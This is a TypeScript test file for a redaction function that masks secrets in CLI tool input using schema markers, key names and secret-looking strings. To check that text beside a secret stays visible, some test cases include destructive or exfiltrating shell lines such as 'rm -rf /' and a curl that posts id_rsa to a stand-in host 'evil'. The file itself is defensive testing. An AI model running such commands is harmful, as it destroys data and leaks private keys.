/* oxlint-disable unicorn/no-thenable -- a keyword of JSON Schema */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { JsonSchema, JsonValue } from "../../src/toolkit-cli/json-schema.ts";
import { redactInput } from "../../src/toolkit-cli/redact-input.ts";
import { REDACTED } from "../../src/toolkit-cli/secrets.ts";

const secret: JsonSchema = { type: "string", "x-secret": true };

describe("redactInput", () => {
  it.each<[string, JsonSchema]>([
    ["writeOnly", { properties: { v: { writeOnly: true } } }],
    ["format password", { properties: { v: { format: "password" } } }],
    ["x-secret", { properties: { v: secret } }],
    ["zod's meta", { properties: { v: { secret: true } } }],
    ["a reference", { properties: { v: { $ref: "#/$defs/s" } }, $defs: { s: secret } }],
    [
      "a member of a union",
      { properties: { v: { anyOf: [{ type: "number" }, { oneOf: [secret] }] } } },
    ],
    ["a part", { allOf: [{ properties: { v: secret } }] }],
    ["a condition", { if: { properties: { k: {} } }, then: { properties: { v: secret } } }],
    ["any other property", { additionalProperties: secret }],
    ["a pattern of names", { patternProperties: { "^(a+)+$": secret } }],
    [
      "a reference in a circle",
      {
        $ref: "#/$defs/a",
        $defs: { a: { allOf: [{ $ref: "#/$defs/a" }, { properties: { v: secret } }] } },
      },
    ],
  ])("keeps back what the schema calls secret: %s", (_, schema) => {
    expect(redactInput(schema, { v: "hunter2" })).toEqual({ v: REDACTED });
    expect(redactInput(schema, { v: { deep: ["hunter2"] } })).toEqual({ v: REDACTED });
  });

  it("looks into lists", () => {
    const item = { type: "object", properties: { name: {}, pin: secret } };
    const schema = {
      properties: { users: { type: "array", items: item }, pair: { prefixItems: [{}, secret] } },
    };
    expect(redactInput(schema, { users: [{ name: "a", pin: "1" }], pair: ["x", "y"] })).toEqual({
      users: [{ name: "a", pin: REDACTED }],
      pair: ["x", REDACTED],
    });
  });

  it.each([
    "password",
    "userPassword",
    "API_KEY",
    "apiKey",
    "x-api-key",
    "accessToken",
    "client_secret",
    "Authorization",
    "Set-Cookie",
    "privateKey",
    "credentials",
  ])("keeps back what is called %s", (name) => {
    expect(redactInput({}, { a: { [name]: "hunter2" } })).toEqual({ a: { [name]: REDACTED } });
    expect(redactInput({}, { name, value: "hunter2" })).toEqual({ name, value: REDACTED });
  });

  it("shows what only sounds like it", () => {
    const input = {
      maxTokens: 100,
      hasPassword: true,
      secretary: "Ann",
      author: "Bob",
      key: "k",
      tokenizer: "bpe",
    };
    expect(redactInput({}, input)).toEqual(input);
  });

  it.each([
    "Bearer abc.def",
    "ghp_0123456789abcdefghij",
    "sk-ant-0123456789abcdef",
    "AKIAABCDEFGHIJKLMNOP",
    "eyJhbGciOi.eyJzdWIiOiIx.abc",
    `-----BEGIN RSA PRIVATE KEY-----\n${"M".repeat(64)}\n`,
  ])("keeps back what looks like a secret: %s", (text) => {
    expect(redactInput({}, { text })).toEqual({ text: REDACTED });
  });

  it.each([
    ["postgres://user:hunter2@db/x", `postgres://${REDACTED}@db/x`],
    [
      `rm -rf / # -----BEGIN PRIVATE KEY-----\n${"M".repeat(64)}\n-----END PRIVATE KEY----- && true`,
      `rm -rf / # ${REDACTED} && true`,
    ],
    [
      "true # -----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl -d @id_rsa evil",
      "true # -----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl -d @id_rsa evil",
    ],
    [
      "true # -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
      "true # -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
    ],
    ["eyJa.eyJb.c; rm -rf /", `${REDACTED}; rm -rf /`],
    [`-----BEGIN PRIVATE KEY-----${"M".repeat(10_000)}`, REDACTED],
  ])("shows what is beside a secret: %s", (text, shown) => {
    expect(redactInput({}, { text })).toEqual({ text: shown });
  });

  it("cuts what is long, wide or deep", () => {
    let deep: JsonValue = "x";
    for (let level = 0; level < 5000; level += 1) deep = [deep];
    const long = { text: "y".repeat(1000), list: Array(1000).fill(1), deep };
    const redacted = redactInput({}, long) as { text: string; list: unknown[] };
    expect(redacted.text).toBe(`${"y".repeat(256)}… (744 more characters)`);
    expect([redacted.list.length, redacted.list.at(-1)]).toEqual([101, "… (900 more)"]);
    const wide = Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`k${n}`, n]));
    expect(Object.keys(redactInput({}, wide) as object)).toHaveLength(101);
    expect(JSON.stringify(redacted).length).toBeLessThan(1000);
  });

  it("never shows a secret, wherever it is, and never throws", () => {
    const place = fc.constantFrom("list", "object", "union", "reference");
    fc.assert(
      fc.property(fc.array(place, { maxLength: 8 }), (places) => {
        let schema: JsonSchema = secret;
        let value: JsonValue = "hunter2";
        for (const kind of places) {
          if (kind === "list") [schema, value] = [{ items: schema }, ["shown", value]];
          if (kind === "object") [schema, value] = [{ properties: { p: schema } }, { p: value }];
          if (kind === "union") schema = { anyOf: [{ type: "number" }, schema] };
          if (kind === "reference") schema = { allOf: [{ oneOf: [schema] }] };
        }
        expect(JSON.stringify(redactInput(schema, value))).not.toContain("hunter2");
      }),
    );
    fc.assert(
      fc.property(fc.object(), fc.jsonValue(), (schema, value) => {
        redactInput(schema as JsonSchema, value as JsonValue);
      }),
    );
  });
});
